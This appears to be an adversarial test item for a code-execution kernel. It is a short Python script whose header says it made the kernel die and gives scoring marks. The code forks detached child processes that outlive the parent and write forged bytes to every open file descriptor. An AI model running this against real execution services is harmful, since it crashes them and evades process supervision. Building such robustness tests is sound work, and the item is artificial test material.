# attack: the kernel's process ends while its children go on, writing to all descriptors that they have
# verdict: kernel died
# marks: double_two=1 double_negative=2 noise_bounds=2
# %% after="double"
import os
import time

for number in range(5):
    if os.fork() == 0:
        os.setsid()
        for _ in range(300):
            for descriptor in range(3, 100):
                try:
                    os.write(descriptor, b"forged")
                except OSError:
                    pass
            time.sleep(0.2)
        os._exit(0)
os._exit(0)
